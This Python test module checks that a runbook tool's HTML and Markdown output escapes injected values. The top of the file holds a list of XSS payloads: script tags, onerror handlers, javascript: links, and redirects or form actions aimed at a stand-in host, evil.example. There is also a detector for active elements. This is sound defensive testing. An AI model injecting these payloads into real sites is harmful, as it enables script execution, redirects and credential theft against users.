"""HTML, Markdown and diagrams in what a run holds and in what an author writes, looked for in every page."""

from __future__ import annotations

import json
import re
import zipfile
from collections.abc import Callable, Mapping
from html.parser import HTMLParser

from markdown_it import MarkdownIt

from tests.security.attempt import AttackSet, Attempt, Outcome, succeeded
from tests.security.ground import Ground

PAYLOADS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    '<a href="javascript:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<style>*{background:url(//evil.example)}</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<!--><script>alert(1)</script>-->",
    "</pre></code></td></table><script>alert(1)</script>",
    "```\n<script>alert(1)</script>\n```\n<b onclick=alert(1)>",
    "&lt;script&gt;&#60;script&#62;alert(1)",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<form action=//evil.example><input name=p></form>",
    "</title><base href=//evil.example/>",
    "\\<script>alert(1)\\</script>",
    "*/</style><object data=//evil.example></object>",
)
_ACTIVE = {
    "script",
    "iframe",
    "object",
    "embed",
    "svg",
    "math",
    "form",
    "base",
    "link",
    "applet",
    "frame",
    "audio",
    "video",
    "textarea",
    "template",
}


class _Reader(HTMLParser):
    """Every element and attribute of a page that can do something."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.active: list[str] = []
        self.images = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in _ACTIVE:
            self.active.append(f"<{tag}>")
        for name, value in attrs:
            word = (value or "").strip().lower()
            refreshes = tag == "meta" and name == "http-equiv" and word == "refresh"
            if name.startswith("on") or re.match(r"(java|vb)script:|data:text", word) or refreshes or name == "srcdoc":
                self.active.append(f"<{tag} {name}={value}>")
            if "evil.example" in word and name != "alt":  # which is text, and shown as such
                self.active.append(f"<{tag} {name}={value}>")


def active(page: str) -> list[str]:
    """What a browser would carry out, load or obey in a page."""
    reader = _Reader()
    reader.feed(page)
    reader.close()
    style = re.findall(r"<style[^>]*>(.*?)</style>", page, re.S | re.I)
    return reader.active + [f"style: {each[:40]}" for each in style if "evil.example" in each]


def rendered(text: str) -> str:
    """Markdown as a reader shows it that lets all HTML through and refuses no link."""
    reader = MarkdownIt("commonmark", {"html": True}).enable("table")
    reader.validateLink = lambda url: True  # type: ignore[method-assign]  # the most careless of readers
    return reader.render(text)


PROCESS = """\
runbook: 1
title: {title}
summary: {title}
description: {title}
inputs: {{v: {{type: string, title: Value}}}}
steps:
  - {{id: say, title: {title}, command: [printf, '%s', '{{{{ inputs.v }}}}'], outputs: {{got: {{from: stdout}}}}}}
  - id: warn
    title: Warn
    critical: false
    command: [sh, -c, 'printf %s "$1" >&2; exit 3', sh, '{{{{ inputs.v }}}}']
  - {{id: ask, title: Ask, why: {title}, ask: {{text: {text}, fields: {{said: {{title: {title}}}}}}}}}
  - id: do
    title: Do
    warning: {title}
    manual: {{text: 'Do {{{{ inputs.v }}}}', fields: {{more: {{title: More}}}}}}
"""


def prepared(ground: Ground, payload: str) -> str:
    """A run of a process whose texts, and all of whose data, are the payload."""
    key = f"run {payload}"
    if key not in ground.kept:
        number = sum(name.startswith("run ") for name in ground.kept)
        title = json.dumps(payload.replace("{{", "").replace("\n", " "))
        text = json.dumps(f"{payload}\n\nIs it {{{{ inputs.v }}}}?")
        ground.project({f"processes/a/m{number}.yaml": PROCESS.format(title=title, text=text)})
        process = f"a/m{number}"
        answers = ground.file("answers.yaml", json.dumps({"ask": {"fields": {"said": payload}}}))
        begun = ground.begun(process, "--answers", answers, v=payload)
        assert begun.code == 4, begun.said
        run = json.loads(begun.out.strip().splitlines()[-1])["run"]
        name = payload.replace("/", "").replace("\n", "")[:100] + ".txt"
        ground.cli("attach", run, "do", ground.file(name, "evidence"))
        ground.cli("note", run, payload)
        ground.cli("hand-over", run, "--note", payload)
        ground.cli("answer", run, "do", "skipped", "--reason", payload)
        ground.kept[key] = f"{process} {run}"
    return str(ground.kept[key])


def _page(*words: str) -> Callable[[Ground, str, str, str], str]:
    def made(ground: Ground, process: str, run: str, payload: str) -> str:
        stands = {"RUN": run, "PROCESS": process, "VALUE": f"v={payload}"}
        result = ground.cli(*(stands.get(word, word) for word in words))
        assert result.code == 0, result.said
        return result.out

    return made


def _markdown(*words: str) -> Callable[[Ground, str, str, str], str]:
    return lambda ground, *about: rendered(_page(*words)(ground, *about))


def _documentation(ground: Ground, process: str, run: str, payload: str) -> str:
    target = ground.folder / "pages"
    built = ground.cli("docs", "build", "--format", "markdown", "--output", str(target))
    assert built.code == 0, built.said
    name = process.partition("/")[2]
    found = [page for page in target.rglob("*.md") if page.stem in (name, "index", "README")]
    assert any(page.stem == name for page in found), [*target.rglob("*")]
    return "\n".join(rendered(page.read_text()) for page in found)


def _for_mkdocs(ground: Ground, process: str, run: str, payload: str) -> str:
    import markdown  # MkDocs brings it along

    from runbook.views.mkdocs.source import EXTENSIONS

    target = ground.folder / "mkdocs"
    assert ground.cli("docs", "build", "--format", "mkdocs", "--output", str(target)).code == 0
    pages = sorted((target / "docs").rglob("*.md"))
    return "\n".join(markdown.markdown(page.read_text(), extensions=["toc", *EXTENSIONS]) for page in pages)


def _archived(ground: Ground, process: str, run: str, payload: str) -> str:
    path = ground.folder / "run.zip"
    assert ground.cli("export", run, "--output", str(path)).code == 0
    with zipfile.ZipFile(path) as archive:
        return archive.read(next(name for name in archive.namelist() if name.endswith(".html"))).decode()


PAGES: Mapping[str, Callable[[Ground, str, str, str], str]] = {
    "record as HTML": _page("record", "RUN", "--format", "html"),
    "record as Markdown": _markdown("record", "RUN"),
    "record in an archive": _archived,
    "checklist": _page("print", "PROCESS", "-i", "VALUE"),
    "rendered process": _markdown("render", "PROCESS"),
    "documentation": _documentation,
    "documentation for MkDocs": _for_mkdocs,
}


def shown(page: str, payload: str) -> Attempt:
    """A page holds nothing that a browser would carry out."""

    def work(ground: Ground) -> Outcome:
        process, run = prepared(ground, payload).split()
        found = active(PAGES[page](ground, process, run, payload))
        succeeded(found, f"{found[:3]} stands there")
        return "harmless"

    return Attempt(page, payload, work)


def unescaped(payload: str) -> Attempt:
    """The control: the payload in the middle of a page, as it is."""

    def work(ground: Ground) -> Outcome:
        page = rendered(payload) if payload.startswith(("[", "!")) else f"<p title='{payload}'>{payload}</p>"
        succeeded(active(page), "it stands there")
        return "harmless"

    return Attempt(f"as it is: {payload[:30]}", payload, work)


SET = AttackSet(
    name="HTML and Markdown",
    tries="a page carries out, loads or obeys what a value or a text says",
    answer="every value is escaped where it is put in; pages have no script, and links go nowhere but to http and mail",
    attempts=tuple(shown(page, payload) for page in PAGES for payload in PAYLOADS),
    controls=tuple(map(unescaped, PAYLOADS[:7])),
)
